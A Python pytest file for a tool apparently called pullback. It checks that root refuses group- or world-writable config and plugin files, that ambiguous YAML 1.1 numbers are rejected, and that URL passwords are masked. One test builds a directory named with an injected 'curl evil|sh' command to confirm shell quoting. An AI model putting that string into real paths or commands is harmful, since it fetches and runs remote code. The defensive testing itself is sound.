"""Files pullback obeys as root (configuration, service and plugin files) that another
user may change are refused, checked on the descriptor the text is read from; YAML 1.1
numbers that read otherwise than they look; a refused URL's password masked (helper-117b,
helper-119)."""

from __future__ import annotations

import os

import pytest

from pullback.common import yamlfile
from pullback.common.fsutil import others_may_change
from pullback.common.secrets import mask_url_password
from pullback.plugins.manager import load_plugins

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="chown needs root")


def test_a_root_file_in_a_root_directory_is_obeyed(tmp_path):
    path = tmp_path / "client.yaml"
    path.write_text("hostname: web1\n")
    path.chmod(0o644)
    assert others_may_change(path) is None
    assert yamlfile.load(path, obeyed=True).data == {"hostname": "web1"}


def test_group_or_world_writable_or_a_writable_directory_is_refused(tmp_path):
    path = tmp_path / "client.yaml"
    path.write_text("hostname: web1\n")
    path.chmod(0o664)
    assert "group or others may write it (mode 0664)" in others_may_change(path)
    path.chmod(0o644)
    tmp_path.chmod(0o777)  # another user could put another file in its place
    try:
        assert "its directory" in others_may_change(path)
        with pytest.raises(yamlfile.YamlFileError, match="its directory"):
            yamlfile.load(path, obeyed=True)
        assert yamlfile.load(path).data == {"hostname": "web1"}  # read, not obeyed: fine
        tmp_path.chmod(0o1777)  # sticky, as /tmp: nobody may replace root's file
        assert others_may_change(path) is None
    finally:
        tmp_path.chmod(0o700)


@needs_root
def test_another_users_file_is_refused_and_the_advice_quotes_its_path(tmp_path):
    odd = tmp_path / "x;curl evil|sh;"
    odd.mkdir()
    path = odd / "service.yaml"
    path.write_text("service: {name: x}\n")
    os.chown(path, 65534, 65534)
    said = others_may_change(path)
    assert said.startswith("it is owned by uid 65534") and "review it" in said
    assert f"chown root: '{path}'" in said  # shell-quoted: pasting it runs nothing else


def test_a_plugin_file_in_a_directory_others_may_write_is_not_run(tmp_path):
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    ran = tmp_path / "ran"
    (plugins / "evil.py").write_text(f"open({str(ran)!r}, 'w').write('x')\n")
    plugins.chmod(0o777)
    try:
        loaded = load_plugins([plugins])
    finally:
        plugins.chmod(0o755)
    assert not ran.exists()
    assert any("evil.py" in e and "its directory" in e for e in loaded.errors)
    assert load_plugins([plugins]) is not None and ran.exists()  # root's: it runs


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("1:30", "base 60"),
        ("0755", "octal"),
        ("0x10", "hexadecimal"),
        ("0b101", "binary"),
        ("07", None),
        ("00", None),
        ("10", None),
        ("1_000", None),
        ('"0755"', None),
    ],
)
def test_yaml11_numbers_that_read_otherwise_are_refused(tmp_path, text, refused):
    path = tmp_path / "x.yaml"
    path.write_text(f"value: {text}\n")
    if refused is None:
        yamlfile.load(path)
        return
    with pytest.raises(yamlfile.YamlFileError, match=refused):
        yamlfile.load(path)


@pytest.mark.parametrize(
    "url",
    [
        "REST:https://u:hunter2@h/x",
        " rest:https://u:hunter2@h/x",
        "a:b:https://u:hunter2@h/x",
        "REST:u:hunter2@host",
        " rest:u:hunter2@host",
    ],
)
def test_a_refused_urls_password_is_masked_whatever_stands_before_it(url):
    masked = mask_url_password(url)
    assert "hunter2" not in masked and "u:***@" in masked
